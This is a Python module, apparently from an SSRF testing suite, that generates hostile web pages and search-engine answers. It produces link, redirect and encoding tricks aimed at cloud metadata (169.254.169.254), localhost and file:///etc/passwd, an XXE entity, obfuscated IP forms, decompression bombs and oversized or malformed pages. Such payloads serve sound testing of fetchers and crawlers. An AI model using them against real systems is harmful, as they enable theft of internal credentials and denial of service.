"""Make hostile pages and answers of search engines: HTML that leads elsewhere, expands, never ends or is disguised."""

import gzip
import html
import zlib
from collections.abc import Iterator
from typing import Any

import orjson

from proofs.ssrf.listeners import SLOW, make_response

TARGETS = ("https://169.254.169.254/latest/meta-data/", "https://127.0.0.1/", "https://r0.attacker.test/start")
_HTML = "Content-Type: text/html; charset=utf-8"
_BOMB = 64 * 1024 * 1024


def build_page(markup: str, *headers: str, content_type: str = _HTML) -> bytes:
    """Build the response that is a page."""
    return make_response(markup.encode(), "200 OK", content_type, *headers)


def list_links(target: str) -> list[str]:
    """List pieces of markup that lead a reader to a target, each in another way."""
    rest = target.partition(":")[2]
    entities = "".join(f"&#{ord(each)};" for each in target)
    hexadecimal = "".join(f"&#x{ord(each):x}" for each in target)
    quoted = html.escape(target)
    return [
        f'<a href="{quoted}">x</a>', f"<a href={target}>x</a>", f'<a href="{entities}">x</a>',
        f'<a href="{hexadecimal}">x</a>', f'<a href="{rest}">x</a>', f'<a href="\\\\{rest[2:]}">x</a>',
        f'<a href="  {target}\t">x</a>', f'<a href="ht\ntps:{rest}">x</a>', f'<a href="\x01{target}">x</a>',
        f'<a href="https:\\\\{rest[2:]}">x</a>', f'<a href="https:{rest[2:]}">x</a>', f'<a href="HTTPS:{rest}">x</a>',
        f'<a href="https://public.attacker.test@{rest[2:]}">x</a>',
        f'<a href="https://public.attacker.test#@{rest[2:]}">x</a>',
        f'<a href="{target.replace("/", "&sol;")}">x</a>', f'<a href="{target.replace(".", "&period;")}">x</a>',
        f'<a href="/" href="{quoted}">x</a>', f'<A HREF="{quoted}" ping="{quoted}">x</A>',
        f'<base href="{quoted}"><a href="a">x</a>', f'<base href="{rest}"><a href="a/../../b">x</a>',
        f'<base href="data:text/html,x"><base href="{quoted}"><a href="a">x</a>',
        f'<base href="javascript:x"><a href="{rest}">x</a>', f'<base href="file:///etc/"><a href="{quoted}">x</a>',
        f'<meta http-equiv="refresh" content="0; url={quoted}">x', f'<iframe src="{quoted}">x</iframe>',
        f'<frameset><frame src="{quoted}"></frameset>', f'<img src="{quoted}" alt="x">',
        f'<link rel="stylesheet" href="{quoted}"><link rel="preload" href="{quoted}">x',
        f'<script src="{quoted}"></script>x', f'<object data="{quoted}"></object><embed src="{quoted}">x',
        f'<form method="post" action="{quoted}"><button>x</button></form>',
        f'<form method="post"><input formaction="{quoted}" formmethod="post" type="submit"></form>',
        f'<svg><a xlink:href="{quoted}"><text>x</text></a></svg><a href="{quoted}">x</a>',
        f'<math href="{quoted}">x</math><area href="{quoted}">', f'<style>@import "{target}";</style>x',
        f'<!--><a href="{quoted}">x</a>-->', f'<noscript><a href="{quoted}">x</a></noscript>',
        f'<textarea></textarea ><a href="{quoted}">x</a>', f'<template><a href="{quoted}">x</a>',
        f'<a href="view-source:{target}">x</a><a href="blob:{target}">x</a><a href="gopher:{rest}">x</a>',
    ]  # fmt: skip


def list_hostile_pages() -> Iterator[tuple[str, bytes]]:
    """List whole responses, each with its kind."""
    for target in TARGETS:
        for markup in list_links(target):
            yield "link of a page", build_page(f"<!doctype html><title>x</title><body>{markup}")
        for header in (f"Refresh: 0; url={target}", f"Link: <{target}>; rel=preload", f"Content-Location: {target}"):
            yield "header of a page", build_page("<p>x", header)
        link = f'<a href="{target}">x</a>'
        for charset in ("utf-16-le", "utf-16-be", "utf-7", "cp037"):
            yield (
                "encoded page",
                make_response(link.encode(charset), "200 OK", f"Content-Type: text/html; charset={charset}"),
            )
        yield "encoded page", make_response(
            f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "{target}">]><a href="{target}">&e;</a>'.encode(),
            "200 OK", "Content-Type: application/xhtml+xml",
        )  # fmt: skip
    for scheme in ("ftp", "gopher", "ws", "http+unix"):
        yield "redirect of a page", make_response(b"", "302 Found", f"Location: {scheme}://169.254.169.254:6379/")
    yield from _list_bombs()


def _list_bombs() -> Iterator[tuple[str, bytes]]:
    zeros = bytes(_BOMB)
    for coding, body in (("gzip", gzip.compress(zeros)), ("deflate", zlib.compress(zeros)), ("br", b"\xff" * 1_000)):
        yield "compressed page", make_response(body, "200 OK", _HTML, f"Content-Encoding: {coding}")
    twice = gzip.compress(gzip.compress(zeros))
    yield "compressed page", make_response(twice, "200 OK", _HTML, "Content-Encoding: gzip, gzip")
    yield "slow page", build_page("<p>" + "x" * 100_000, SLOW)
    yield "large page", build_page("<p>" + "x" * 8_000_000)
    parts = "a/" * 1_000
    base = f'<base href="https://public.attacker.test/{parts}">'
    yield "costly page", build_page(base + "".join(f"<a href=../{number:x}>y" for number in range(50_000)))
    for part in ("<div>", "<svg>", "<a href=x>", "<title>", "<!--", "&#", "<p " + "a=" * 9, "<script></style>"):
        yield "costly page", build_page(part * (900_000 // len(part)))


def list_hostile_answers() -> Iterator[tuple[str, bytes]]:
    """List answers of a search engine, each with its kind."""
    urls: list[Any] = [
        *TARGETS, "file:///etc/passwd", "//169.254.169.254/", "https://169.254.169.254@public.attacker.test/",
        "https://public.attacker.test\\@127.0.0.1/", "javascript:x", "https://2852039166/", "https://0x7f.1/",
        "https://[::ffff:169.254.169.254]/", "https://127。0。0。1/", "HTTPS://127.0.0.1/", 7, None, ["https://127.0.0.1/"],
    ]  # fmt: skip
    for url in urls:
        yield "search result", make_response(orjson.dumps({"results": [{"url": url, "title": "x", "content": "x"}]}))
    for target in TARGETS:
        body = orjson.dumps({"results": [{"url": f"https://public.attacker.test/{target}", "title": target}] * 500})
        yield "search result", make_response(body, "200 OK", f"Refresh: 0; url={target}", f"Location: {target}")
    yield "search answer", make_response(b'{"results": ' + b"[" * 50_000)
    yield "search answer", make_response(orjson.dumps({"results": [{"url": "https://a.test/", "title": "<" * 90_000}]}))
    yield "search answer", make_response(gzip.compress(bytes(_BOMB)), "200 OK", "Content-Encoding: gzip")
